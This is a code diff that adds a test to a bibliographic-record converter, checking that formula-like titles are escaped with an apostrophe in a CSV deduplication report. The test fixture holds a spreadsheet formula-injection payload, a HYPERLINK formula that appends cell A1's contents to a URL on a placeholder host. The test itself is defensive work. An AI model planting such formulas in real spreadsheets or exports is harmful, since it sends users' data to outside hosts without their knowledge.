@@ -283,3 +283,21 @@ def test_version_and_help_examples() -> None:
     assert "Examples:" in help_text
     assert "-o out/ -t bibtex -j 4" in help_text
     assert "--max-value-length" in help_text and "--max-record-lines" in help_text
+
+
+def test_dedupe_report_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    # Two copies of a record whose title a spreadsheet would take for a formula.
+    record = ('TY  - JOUR\nTI  - =HYPERLINK("http://x.example/?"&A1,"Open")\nAU  - Doe, Jane\n'
+              'PY  - 2020\nDO  - 10.1000/x\nER  - \n')
+    inputs = [tmp_path / "a.ris", tmp_path / "b.ris"]
+    for path in inputs:
+        path.write_text(record, encoding="utf-8")
+    report = tmp_path / "dups.csv"
+    result = risx_run("convert", "-q", "--merge", "--dedupe", "--dedupe-report", report,
+                      *inputs, "-o", tmp_path / "all.json")
+    assert result.returncode == 0, result.stderr
+    (row,) = list(csv.DictReader(report.open(encoding="utf-8")))
+    assert row["kept_title"] == row["dropped_title"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Open")'
+    assert row["key"] == "10.1000/x"  # ordinary text is written as it is
+    # The converted data itself keeps the title exactly.
+    assert json.loads((tmp_path / "all.json").read_text())[0]["title"].startswith("=HYPERLINK(")
